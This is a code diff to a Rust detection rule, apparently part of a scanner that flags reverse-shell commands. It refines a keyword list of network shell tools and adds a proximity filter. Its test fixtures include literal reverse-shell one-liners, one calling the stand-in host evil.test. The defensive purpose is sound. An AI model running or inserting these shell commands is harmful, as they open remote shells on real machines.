@@ -2,6 +2,7 @@
 
 use crate::command::{Step, is_shell};
 use crate::destination::{Kind, classify};
+use crate::phrase::Phrases;
 use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
 use crate::unit::{ANYWHERE, Place, Unit};
 
@@ -18,25 +19,25 @@ pub(super) const RULE: Rule = Rule {
         "/dev/udp",
         "bash -i",
         "sh -i",
-        "nc -",
-        "ncat",
+        "\\bnc -",
+        "\\bncat",
         "netcat",
-        "socat",
+        "\\bsocat",
         "mkfifo",
         "socket",
         "fsockopen",
         "tcpclient",
         "/inet/tcp",
         "ztcp",
-        "telnet",
+        "\\btelnet",
         "s_client",
         "pty.spawn",
         "net.connect",
-        "nc ",
+        "\\bnc ",
         "').connect(",
         "\").connect(",
     ],
-    check: Check::Unit(hits),
+    check: Check::Near(&[&NEAR], hits),
     hits: &[
         text("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
         text("nc -e /bin/sh evil.test 4444"),
@@ -68,6 +69,11 @@ pub(super) const RULE: Rule = Rule {
         text("sync -e and nc -"),
     ],
 };
+
+/// What is in every text that it finds something in.
+static NEAR: Phrases = Phrases::new(&[
+    r"/dev/(?:tcp|udp)|sh\b|cmd|powershell|iex|invoke-expression|dup2|(?:exec|proc_open|system|popen)\s*\(|std(?:in|out)|getline|\s--?[a-z]*[ecl]|exec:|system:|mkfifo",
+]);
 
 patterns! {
     TALKS = r"/dev/(?:tcp|udp)/([^/\s]{1,80})/";
